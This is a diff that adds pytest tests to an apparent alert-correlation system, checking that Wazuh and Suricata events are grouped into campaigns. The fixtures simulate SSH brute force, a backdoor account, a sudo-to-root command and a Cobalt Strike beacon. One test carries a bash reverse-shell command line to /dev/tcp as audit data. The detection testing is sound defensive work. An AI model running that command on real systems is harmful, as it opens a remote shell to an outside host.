@@ -546,3 +546,76 @@ def test_identity_is_the_campaign_else_the_group_else_the_threat(scans, finance)
     lone.campaign = Campaign.objects.create(customer=finance, key="user:zed", title="z", first_seen=lone.occurred_at,
                                             last_seen=lone.occurred_at)
     assert grouping.identity(lone) == f"campaign:{lone.campaign.pk}"
+
+
+def _wazuh(ref, minute, rule_id, level, description, groups, host, mitre=(), before="", **data):
+    return json.dumps({"timestamp": f"2026-11-20T10:{minute:02d}:00.000+0000", "id": ref,
+                       "agent": {"id": "4", "name": host},
+                       "rule": {"level": level, "id": rule_id, "description": description, "groups": groups,
+                                "mitre": {"id": list(mitre)}},
+                       "data": data, **({"previous_output": before} if before else {})}).encode()
+
+
+FAILED = "".join(f"Nov 20 09:5{i} bastion-01 sshd[41{i}]: Failed password for deploy from 198.51.100.73 port 4{i}22 ssh2\n"
+                 for i in range(4))
+
+
+@pytest.mark.parametrize("landed", [True, False])
+def test_guessing_that_ends_in_a_logon_puts_the_attacker_on_the_host(finance, landed):
+    """An outsider's guessing makes a host its target only; once it ends in a logon (Wazuh 40112) the
+    attacker is on the host, and the account created there minutes later is part of the same story."""
+    if landed:
+        guess = _wazuh("guess", 0, "40112", 12, "Multiple authentication failures followed by a success.",
+                       ["syslog", "attacks", "authentication_success"], "bastion-01", mitre=("T1078", "T1110"),
+                       before=FAILED,
+                       srcip="198.51.100.73", dstuser="deploy")
+    else:
+        guess = _wazuh("guess", 0, "5763", 10, "sshd: brute force trying to get access to the system.",
+                       ["syslog", "sshd", "authentication_failures"], "bastion-01", mitre=("T1110",),
+                       srcip="198.51.100.73", dstuser="deploy")
+    run("wazuh", guess, default_customer=finance)
+    run("wazuh", _wazuh("backdoor", 3, "5902", 8, "New user added to the system.", ["syslog", "adduser"],
+                        "bastion-01", dstuser="systemd-netd"), default_customer=finance)
+    assert (_campaign_of("backdoor") == _campaign_of("guess")) is landed
+
+
+def test_a_command_run_as_root_by_a_person_is_that_person_s_activity(finance):
+    """sudo to root names root as the target; the person who ran it is the actor, and the campaign is theirs."""
+    login = {"timestamp": "2026-11-20T10:00:00.000+0000", "id": "sudo-login", "agent": {"id": "4", "name": "rpt-db"},
+             "rule": {"level": 3, "id": "5715", "description": "sshd: authentication success.",
+                      "groups": ["syslog", "sshd", "authentication_success"]},
+             "data": {"srcip": "10.30.7.88", "dstuser": "svc-report"}}
+    sudo = {"timestamp": "2026-11-20T10:03:00.000+0000", "id": "sudo-root", "agent": {"id": "4", "name": "rpt-db"},
+            "rule": {"level": 3, "id": "5402", "description": "Successful sudo to ROOT executed.",
+                     "groups": ["syslog", "sudo"]},
+            "data": {"srcuser": "svc-report", "dstuser": "root", "command": "/bin/sh -c id"}}
+    run("wazuh", json.dumps(login).encode(), default_customer=finance)
+    run("wazuh", json.dumps(sudo).encode(), default_customer=finance)
+    assert _campaign_of("sudo-root") is not None and _campaign_of("sudo-root") == _campaign_of("sudo-login")
+
+
+def test_a_command_line_is_activity_on_its_host_whatever_its_rating(finance):
+    """An audit record of a command (no behaviour named, rated low) is execution on the host, not
+    information: the persistence found on that host a few minutes later joins it."""
+    first = json.loads(_alert("exec-1", 0, "", host="wp-01", command_line="bash -c 'bash -i >& /dev/tcp/203.0.113.45/443 0>&1'"))
+    run("generic", json.dumps({**first, "title": "Audit: Command: /usr/bin/bash", "category": None,
+                               "severity": "low"}).encode())
+    run("generic", _alert("cron-1", 5, "persistence", host="wp-01"))
+    assert _campaign_of("exec-1") is not None and _campaign_of("exec-1") == _campaign_of("cron-1")
+
+
+def test_an_hourly_repeat_stays_in_its_group_under_the_default_window(finance, settings):
+    """Five hours by default (Microsoft Sentinel's alert-grouping default): a beacon or a job that fires
+    every hour is one group, not one a run."""
+    from django.conf import settings as configured
+
+    assert configured.INGEST_GROUP_WINDOW_SECONDS == 5 * 3600
+    beacon = {"timestamp": "2026-11-20T01:05:12.000+0000", "src_ip": "10.30.44.91", "dest_ip": "203.0.113.150",
+              "src_port": 61733, "dest_port": 443, "proto": "TCP", "event_type": "alert",
+              "alert": {"action": "allowed", "signature_id": 2027082, "severity": 1, "category": "A Network Trojan was detected",
+                        "signature": "ET TROJAN Observed Malicious SSL Cert (CobaltStrike CnC)"}}
+    later = {**beacon, "timestamp": "2026-11-20T02:05:14.000+0000", "src_port": 62218}
+    run("suricata", json.dumps(beacon).encode(), default_customer=finance)
+    run("suricata", json.dumps(later).encode(), default_customer=finance)
+    first, second = Threat.objects.order_by("occurred_at")
+    assert first.group_id is not None and second.group_id == first.group_id
